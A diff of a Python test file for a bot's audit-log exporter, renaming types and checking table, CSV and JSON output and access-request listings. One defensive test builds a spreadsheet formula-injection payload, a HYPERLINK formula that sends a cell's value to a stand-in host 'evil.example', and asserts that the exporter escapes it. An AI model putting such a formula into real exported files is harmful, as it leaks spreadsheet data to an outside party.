@@ -11,9 +11,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from bot.access.requests import Permission, State
+from bot.access.requests import AccessRequest, RequestState
 from bot.commands.record import Record
-from bot.operations.audit import WIDTH, Form, printable, write, write_access
+from bot.operations.audit import WIDTH, Format, printable, write, write_access
 from tests.memory import CHANGE
 
 CHANGED = replace(
@@ -69,14 +69,14 @@ RECORDS = st.builds(
 )
 
 
-def _written(form: Form, *records: Record) -> str:
+def _written(output_format: Format, *records: Record) -> str:
     out = io.StringIO(newline="")
-    write(records, form, out)
+    write(records, output_format, out)
     return out.getvalue()
 
 
 def _row(record: Record) -> str:
-    header, row = _written(Form.TABLE, record).splitlines()
+    header, row = _written(Format.TABLE, record).splitlines()
     assert header.split() == ["when", "(UTC)", "who", "deal", "what", "became", "of", "it", "delivered", "reference"]
     return row
 
@@ -85,7 +85,7 @@ def _row(record: Record) -> str:
 
 
 def test_the_table_says_when_who_which_deal_what_became_of_it_and_where_to_look() -> None:
-    assert _written(Form.TABLE, CHANGED, replace(CHANGED, name=None, delivered="direct_message")) == (
+    assert _written(Format.TABLE, CHANGED, replace(CHANGED, name=None, delivered="direct_message")) == (
         "when (UTC)           who          deal                           "
         "what became of it            delivered       reference\n"
         "2026-11-24 10:31:07  U012AB3CD    New website                    "
@@ -106,7 +106,7 @@ def test_the_example_of_the_readme_is_what_is_written() -> None:
     )
     chosen = replace(changed, user_id="U0KIM", name="Training", continues="key")
     written = _written(
-        Form.TABLE,
+        Format.TABLE,
         changed,
         replace(undone, at=day.replace(hour=10, minute=32, second=40), reference="K7QM2XRA"),
         replace(failed, at=day.replace(hour=11, minute=2, second=13), reference="P3TZ9WKC", delivered="undelivered"),
@@ -119,7 +119,7 @@ def test_the_example_of_the_readme_is_what_is_written() -> None:
 
 
 def test_a_table_without_rows_says_so() -> None:
-    assert _written(Form.TABLE) == "no commands\n"
+    assert _written(Format.TABLE) == "no commands\n"
 
 
 def test_the_table_is_for_a_terminal_of_120_columns() -> None:
@@ -205,7 +205,7 @@ def test_nothing_that_would_steer_a_terminal_reaches_it(typed: str, shown: str) 
 
 @given(st.lists(RECORDS, max_size=4))
 def test_every_line_of_the_table_is_within_its_width_and_holds_no_control_character(records: list[Record]) -> None:
-    lines = _written(Form.TABLE, *records).split("\n")
+    lines = _written(Format.TABLE, *records).split("\n")
 
     assert lines.pop() == ""
     assert len(lines) == len(records) + 1 if records else lines == ["no commands"]
@@ -221,8 +221,8 @@ def _cells(text: str) -> int:
 
 
 def test_csv_has_a_header_and_every_field_and_ends_its_lines_as_the_standard_says() -> None:
-    assert _written(Form.CSV) == ",".join(NAMES) + "\r\n"
-    assert _written(Form.CSV, CHANGED).endswith(
+    assert _written(Format.CSV) == ",".join(NAMES) + "\r\n"
+    assert _written(Format.CSV, CHANGED).endswith(
         "\r\nkey,H4WSYDSE,2026-11-24T10:31:07.250000+00:00,T1,U012AB3CD,C0SALES,aB3dE5fG7hJ9kL1mN2pQ won,"
         "aB3dE5fG7hJ9kL1mN2pQ,New website,won,,,finished,open,,won,changed,,0,response_url,,trace,"
         "2026-11-24T10:31:08+00:00,,,given,,,,True,,,\r\n"
@@ -232,14 +232,14 @@ def test_csv_has_a_header_and_every_field_and_ends_its_lines_as_the_standard_say
 @pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "'"])  # noqa: RUF001 - the point
 def test_a_cell_that_a_spreadsheet_would_take_for_a_formula_gets_an_apostrophe(first: str) -> None:
     formula = f'{first}HYPERLINK("http://evil.example?"&A1)'
-    _, row = csv.reader(io.StringIO(_written(Form.CSV, replace(CHANGED, text=formula)), newline=""))
+    _, row = csv.reader(io.StringIO(_written(Format.CSV, replace(CHANGED, text=formula)), newline=""))
 
     assert row[NAMES.index("text")] == f"'{formula}"
 
 
 @given(st.lists(RECORDS, max_size=4))
 def test_csv_gives_back_every_field_once_the_apostrophe_is_taken_away(records: list[Record]) -> None:
-    header, *rows = csv.reader(io.StringIO(_written(Form.CSV, *records), newline=""), strict=True)
+    header, *rows = csv.reader(io.StringIO(_written(Format.CSV, *records), newline=""), strict=True)
 
     assert header == NAMES
     assert [[cell.removeprefix("'") for cell in row] for row in rows] == [
@@ -252,7 +252,7 @@ def test_csv_gives_back_every_field_once_the_apostrophe_is_taken_away(records: l
 
 @given(st.lists(RECORDS, max_size=4))
 def test_json_is_an_array_with_one_object_on_each_line_that_has_every_field(records: list[Record]) -> None:
-    written = _written(Form.JSON, *records)
+    written = _written(Format.JSON, *records)
 
     assert json.loads(written) == [dict(zip(NAMES, _values(record), strict=True)) for record in records]
     assert written.isascii()
@@ -267,8 +267,8 @@ def _values(record: Record) -> list[object]:
 # --- all ------------------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("form", Form)
-def test_each_record_is_written_before_the_next_is_asked_for(form: Form) -> None:
+@pytest.mark.parametrize("output_format", Format)
+def test_each_record_is_written_before_the_next_is_asked_for(output_format: Format) -> None:
     out = io.StringIO()
     seen = []
 
@@ -277,42 +277,42 @@ def test_each_record_is_written_before_the_next_is_asked_for(form: Form) -> None
             yield replace(CHANGED, reference=f"REF-{number}")
             seen.append(out.getvalue().count("REF-"))
 
-    write(records(), form, out)
+    write(records(), output_format, out)
 
     assert seen == [1, 2, 3]
 
 
 # --- who was let in -------------------------------------------------------------------------------------------------
 
-ASKED = Permission("H4WSYDSE", "U0BEN", "T1", "C0SALES", datetime(2026, 11, 25, 11, tzinfo=UTC))
+ASKED = AccessRequest("H4WSYDSE", "U0BEN", "T1", "C0SALES", datetime(2026, 11, 25, 11, tzinfo=UTC))
 APPROVED = replace(
-    ASKED, state=State.APPROVED, decided_by="U0KIM", decided_at=datetime(2026, 11, 25, 12, 30, tzinfo=UTC)
+    ASKED, state=RequestState.APPROVED, decided_by="U0KIM", decided_at=datetime(2026, 11, 25, 12, 30, tzinfo=UTC)
 )
 REVOKED = replace(
-    APPROVED, state=State.REVOKED, revoked_by="operator", revoked_at=datetime(2026, 11, 26, 8, tzinfo=UTC)
+    APPROVED, state=RequestState.REVOKED, revoked_by="operator", revoked_at=datetime(2026, 11, 26, 8, tzinfo=UTC)
 )
 
 
-def _access(form: Form, *rows: Permission) -> str:
+def _access(output_format: Format, *rows: AccessRequest) -> str:
     out = io.StringIO(newline="")
-    write_access(iter(rows), form, out)
+    write_access(iter(rows), output_format, out)
     return out.getvalue()
 
 
 def test_who_asks_and_who_was_let_in_is_a_table() -> None:
-    assert _access(Form.TABLE, ASKED, APPROVED, REVOKED).splitlines() == [
+    assert _access(Format.TABLE, ASKED, APPROVED, REVOKED).splitlines() == [
         "asked (UTC)          who          where        state     by           since (UTC)          reference",
         "2026-11-25 11:00:00  U0BEN        C0SALES      open                                        H4WSYDSE",
         "2026-11-25 11:00:00  U0BEN        C0SALES      approved  U0KIM        2026-11-25 12:30:00  H4WSYDSE",
         "2026-11-25 11:00:00  U0BEN        C0SALES      revoked   operator     2026-11-26 08:00:00  H4WSYDSE",
     ]
-    assert _access(Form.TABLE) == "nobody\n"
+    assert _access(Format.TABLE) == "nobody\n"
 
 
 def test_programs_read_every_field_of_it() -> None:
-    (row,) = json.loads(_access(Form.JSON, REVOKED))
+    (row,) = json.loads(_access(Format.JSON, REVOKED))
     assert row["revoked_at"] == "2026-11-26T08:00:00+00:00"
-    assert list(row) == [field.name for field in fields(Permission)]
-    header, line = csv.reader(io.StringIO(_access(Form.CSV, REVOKED)))
+    assert list(row) == [field.name for field in fields(AccessRequest)]
+    header, line = csv.reader(io.StringIO(_access(Format.CSV, REVOKED)))
     assert header == list(row)
     assert line[:2] == ["H4WSYDSE", "U0BEN"]
